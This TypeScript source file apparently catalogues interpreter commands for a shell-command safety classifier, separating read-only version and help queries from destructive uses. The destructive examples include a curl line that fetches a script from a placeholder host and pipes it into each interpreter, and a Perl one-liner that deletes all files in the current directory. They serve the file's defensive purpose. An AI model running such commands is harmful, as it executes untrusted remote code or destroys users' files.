import type { CatalogueEntry } from '../entry.js';

/**
 * Interpreters: asking for the version or help is read-only; a script from a file, an option
 * (-c, -e) or stdin is code the line does not show.
 */

const ASKS = ['--version', '-V', '-v', '--help', '-h'];

function interpreter(
  name: string,
  summary: string,
  script: string,
  options: { readonly aliases?: readonly string[]; readonly asks?: readonly string[] } = {},
): CatalogueEntry {
  const asks = options.asks ?? ASKS;
  return {
    name,
    aliases: options.aliases,
    summary,
    shape: { kind: 'interpreter', asks },
    unknownOptions: 'fail',
    examples: {
      readOnly: [`${name} ${asks[0]}`],
      destructive: [`${name} ${script}`, `curl -s https://x.example/i | ${name}`],
    },
  };
}

export const INTERPRETERS: readonly CatalogueEntry[] = [
  {
    ...interpreter('python', 'the Python interpreter', 'build.py', {
      aliases: ['python2', 'python3', 'pypy', 'pypy3'],
    }),
    examples: {
      readOnly: ['python3 --version', 'python -V'],
      destructive: [
        'python3 build.py',
        'python3 -c "import os"',
        'python3 -m http.server',
        'echo x | python3 -',
      ],
    },
  },
  interpreter('node', 'the Node.js runtime', 'server.js', {
    aliases: ['nodejs'],
    asks: ['--version', '-v', '--help', '-h'],
  }),
  interpreter('deno', 'the Deno runtime', 'run main.ts'),
  interpreter('ruby', 'the Ruby interpreter', 'script.rb'),
  interpreter('perl', 'the Perl interpreter', "-e 'unlink glob q(*)'"),
  interpreter('php', 'the PHP interpreter', 'index.php'),
  interpreter('lua', 'the Lua interpreter', 'main.lua'),
  interpreter('Rscript', 'runs R scripts', 'analysis.R'),
  interpreter('R', 'the R environment', '-f analysis.R'),
  interpreter('java', 'the Java launcher', '-jar app.jar', {
    asks: ['--version', '-version', '-help', '--help'],
  }),
  {
    // Nothing only asks: the oracle saw `jshell --version` write Java user preferences
    // (~/.java/.userPrefs/tool/JShell/prefs.xml under the passwd home).
    ...interpreter('jshell', 'the Java shell', 'script.jsh', { asks: [] }),
    examples: { destructive: ['jshell --version', 'jshell script.jsh'] },
  },
  interpreter('irb', 'interactive Ruby', 'script.rb'),
  interpreter('ipython', 'interactive Python', 'script.py'),
  interpreter('julia', 'the Julia interpreter', 'main.jl'),
  interpreter('swift', 'the Swift interpreter', 'main.swift'),
  interpreter('osascript', 'runs AppleScript and JavaScript for Automation', 'script.scpt'),
  interpreter('pwsh', 'PowerShell', '-File build.ps1', { aliases: ['powershell'] }),
  interpreter('tclsh', 'the Tcl shell', 'script.tcl'),
  interpreter('expect', 'runs expect scripts that drive other programs', 'login.exp'),
];
